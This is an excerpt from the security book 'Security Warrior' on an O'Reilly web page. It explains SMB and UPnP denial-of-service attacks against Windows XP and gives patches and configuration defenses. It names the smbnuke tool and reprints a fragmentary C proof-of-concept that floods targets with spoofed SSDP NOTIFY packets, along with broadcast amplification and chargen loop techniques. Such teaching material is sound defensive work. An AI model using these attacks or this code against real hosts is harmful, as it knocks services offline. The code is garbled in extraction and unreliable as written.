oreilly.comSafari Books Online.Conferences.


AddThis Social Bookmark Button O'Reilly Book Excerpts: Security Warrior

Protect Yourself Against Denial-of-Service Attacks

Related Reading

Security Warrior
By Cyrus Peikari, Anton Chuvakin

by Anton Chuvakin and Cyrus Peikari

Editor's note: Based on the principle that the only way to defend yourself is to understand your attacker in-depth, the recently released Security Warrior reveals how your Windows and UNIX systems can be attacked. It covers everything from reverse-engineering to SQL attacks, and topics like social engineering, antiforensics, and common attacks against Windows systems. This week we've excerpted a sample from the book that details denial-of-service (DoS) attacks against XP.

Denial-of-Service Attacks

Computer attacks can take several forms, some of which include information gathering, local administrative access, remote access hacks, and, last but not least, denial-of-service (DoS) attacks. While gaining root access to a server is typically the ultimate goal, there are still numerous reasons a hacker would want to simply take a server out of commission.For example, what would be the result of an organization-wide cyberattack that caused all of the company's web servers to shut down? This type of attack is not only possible but is also easy to perform, since most organizations purchase large blocks of IP addresses and manage them internally. A hacker simply learns this range in order to systematically target the entire block.

In this section, weinvestigate two denial-of-service attacks that work in such a manner. The first attacks the Server Message Block protocol used by Windows machines, while the second targets the Universal Plug and Play service (a relatively modern feature of Windows operating systems).

SMB Attack

The Service Message Block (SMB) protocol was designed to provide a platform-independent method of requesting data from file services over a network. Also known as the Common Internet File System, this protocol is most often affiliated with the Windows family of operating systems, although others can use it. So far, only Windows has been found vulnerable to the following attack.

SMB operates in the Application/Presentation layers of the OSI model (depicted in Figure 13-1). Because it operates in such high layers, SMB can easily be used in almost any network. TCP/IP, IPX, NetBEUI, and other lesser-known protocols can all work with SMB packaged data.

Fig 13-1
Figure 13-1. OSI model depicting relationship of SMB and other protocols.

SMB is a protocol used for sharing files, printers, and communication methods between computers. SMB operates as a client/server request/response type of service. In this example, we demonstrate it as used with TCP/IP, which is actually NetBIOS over TCP/IP (NBT).

While it is possible to operate Windows XP without allowing SMB requests to connect, this service is set up to run automatically under the default installation. Remote clients can check for SMB service availability by performing a port scan. Positive results include a reply from TCP port 139 and/or TCP port 445, depending on whether NetBIOSover TCP/IP (NBT) is enabled.

Older Windows operating systems use port 139 by default to accept incoming SMB requests. However, with the introduction of Windows 2000 and XP, port 445 is also used to allow Direct Host services to run. Additionally, this port can be used in anonymous share attacks that provide a remote hacker with full access to a Windows box.

In this attack, the weakness is found in the SMB_COM_TRANSACTION command, which used to create functions by which the client and host communicate. In short, this command defines a "Function Code" that determines what type of service is requested by the client. These services are known as NetServEnum2, NetServEnum3, and NetShareEnum. To regulate the amount of information requested, the client uses parameters to send values to the server. Within these parameters are the "Max Param Count" and "Max Data Count" fields, which typically hold valid (nonzero) values. However, if these fields are set to "0", the code in the DLL file responsible for handling this information incorrectly manages the server's memory. As a result, the system goes into an unstable mode and crashes.

Whileall this information can be useful in understanding and manually performing a DoS attack on SMB, several proof-of-concept programs have been developed to illustrate how it works and test personal networks. One program that illustrates the effectiveness of the SMB attack is smbnuke (written by Frederic Deletang). As seen in Figure 13-2, the program crashes a Windows XP machine with the simple command smbnuke address.

Fig 13-2
Figure 13-2. Windows XP blue screen of death after SMB attack.

Figure 13-2 shows the screen of the targeted Windows XP box with the message posted by the infamous blue screenof death. Note that this screen only flashes for a couple of seconds before the system goes down for a reboot.

This program is easily fetched online with a quick web search. To test your own Windows XP system, you will need to be running a Unix system, preferably FreeBSD or Linux (we tested this on Linux 2.4.18/i686 and FreeBSD 4.6.1-RELEASE-p10/i386). Figure 13-3 shows smbnuke successfully testing Windows XP.

Fig 13-3
Figure 13-3. smbnuke successfully testing Windows XP box.

TIP: The code is available in uncompiled format. You will need to have a C compiler (e.g., GCC) on your system to create the executable file.

There are various ways to secure a system from the SMB DoS attack. The first method is to remove NetBIOS from any network card or modem connection. This eliminates the possibility of abusing NBT and removes the threat of an attack. To do this, access the properties of your connection and uninstall or unbind NetBIOS from TCP/IP. Disable file sharing and uninstall Client for Microsoft Networks.

WARNING: Check with your ISP or LAN administrator before performing any of these actions. Breaking NetBIOS can cause some programs to malfunction.

The second method of defense is to install the patch from Microsoft, which is buried in Service Pack 1 (SP1). Note that Microsoft has not provided a fix for this outside of SP1 -- a service pack that also includes software that ensures your WindowsXP license is valid. In other words, if you lose your key, you are hosed.

Disabling Null connections also protects against anonymous attacks, but it does not protect against valid users. This is accomplished on Windows XP by updating the Local Security Policy and enabling "Network Access: Do not allow anonymous enumeration of SAM accounts" and "Network access: Do not allow anonymous enumeration of SAM accounts and shares." On Windows 2000, enable the "Additional restrictions for anonymous connection" option, and in Windows NT, update the registry key atHKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Control\LSA\restrictanonymous to equal "1".

Finally, shutting down the LAN manager service secures a server, but it also disables file and print services. This option is accessible via the Service icon in the Control Panel (under Adminstrative Tools).

Universal Plug and Play Attack

With the introduction of Windows Me, Microsoft included support for a new technology known as Universal Plug and Play (UPnP) in order to permit the use of smart devices that use the UPnP technology to automatically detect and connect with each other. When a UPnP device connects to a network, it sends out a NOTIFY signal to all other devices on the network, which simply tells the other devices that a new device is online and ready to be used. The NOTIFY signal includes a URL that can be used by other UPnP devices to determine what services the new device has to offer. All this is performed using the Simple Service Discovery Protocol (SSDP), the main formatting protocolfor passing information using UPnP (

In addition to the initial NOTIFY signal, UpnP-aware devices send out a signal over the network known as the M-SEARCH directive. This directive informs all UPnP devices that a new, aware device is on the network, which causes them to send backinformation about the services each of them has to offer.

While this particular technology is not in widespread use, it could theoretically set up an appliance network to control and regulate every electric device in a house, from toasters to refrigerators. It was not until the release ofWindows XP, which enabled this feature by default, that it was discovered that the UPnP feature was vulnerable to several DoS attacks.

The core of the problem is the way which the ssdpsrv.exe file handles incoming requests. The following examples describe several methods of attacking the UPnP service.

The first method is to use an incidental attack that creates a series of rapid connections to the target. Incrementing the protocol, port, and file specified in the Location field makes the service unstable. Here's the format of a NOTIFY session used to do this:

CACHE-CONTROL: max-age=10
NT: urn:schemas-upnp-org:device:InternetGatewayDevice:1
NTS: ssdp:alive
SERVER: HACKER/2001 UPnP/1.0 product/1.1

This method of attack can be altered to perform a distributed denial-of-service attack by abusing networking standards. To do this, the attacker has to substitute the Host target IP address with the network's broadcast address (e.g., and then update the Location field with the target. This causes all listening devices on the network to reply to the initial NOTIFY message (Location field), which floods the target computer with numerous replies.An attacker could also cause a UPnP service to target itself and create a loop that eats up the host's resources. To accomplish this, the NOTIFY message is set to target a chargen service on a remote computer. The chargen service is a small program that sends a stream of characters to any computer that connects to it; when the UPnP service sends data to chargen, it immediately bounces the message back to the requesting computer. This triggers another message, creating a new reply. Eventually, the resources on the target computer fail.

This code is provided with permission from Gabriel Maggoiti as a proof of concept:

 * WinME/XP UPNP D0S
 * ./upnp_udp <remote_hostname> <spooffed_host> <chargen_port>
 * Authors:     Gabriel Maggiotti, Fernando Oubiña
 * Email:,
 * Webpage:

#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <errno.h>
#include <string.h>
#include <netdb.h>
#include <sys/types.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>
#include <fcntl.h>

#define MAX    1000
#define PORT    1900

char *str_replace(char *rep, char *orig, char *string)
int len=strlen(orig);
char buf[MAX]="";
char *pt=strstr(string,orig);

strncpy(buf,string, pt-string );
return string;int main(int argc,char *argv[])
    int sockfd,i;
    int numbytes;
    int num_socks;
    int addr_len;
    char recive_buffer[MAX]="";

    charsend_buffer[MAX]=
    "NOTIFY * HTTP/1.1\r\nHOST:\r\n"
    "CACHE-CONTROL: max-age=1\r\nLOCATION:
    "NT: urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\n"
    "NTS: ssdp:alive\r\nSERVER: QB0X/201 UPnP/1.0 prouct/1.1\r\n"
    "USN: uuid:QB0X\r\n\r\n\r\n";

    char *aux=send_buffer;
    struct hostent *he;
    struct sockaddr_in their_addr;

        fprintf(stderr,"usage:%s <remote_hostname> "\
            "<spooffed_host> <chargen_port>\n",argv[0]);



    if( (sockfd=socket(AF_INET,SOCK_DGRAM,0)) == -1) {
        perror("socket"); exit(1);

    their_addr.sin_addr=*((struct in_addr*)he->h_addr);

    if( (numbytes=sendto(sockfd,send_buffer,strlen
    (struct sockaddr *)&their_addr,
                sizeof(struct sockaddr))) ==-1)

return 0;Microsoft has released a patch to correct this vulnerability. Once it's installed, the UPnP is no longer vulnerable to this DoS attack. Visit for security patches.

The UPnP DoS attack has also led to a remote access attack, discussed later in this chapter.

Anton Chuvakin is a recognized security expert and book author. His current role is PCI Solutions Director at Qualys.

Cyrus Peikari is currently the Chief Technical Officer of Airscanner Corporation,a leading mobile securitysoftware company.

Return to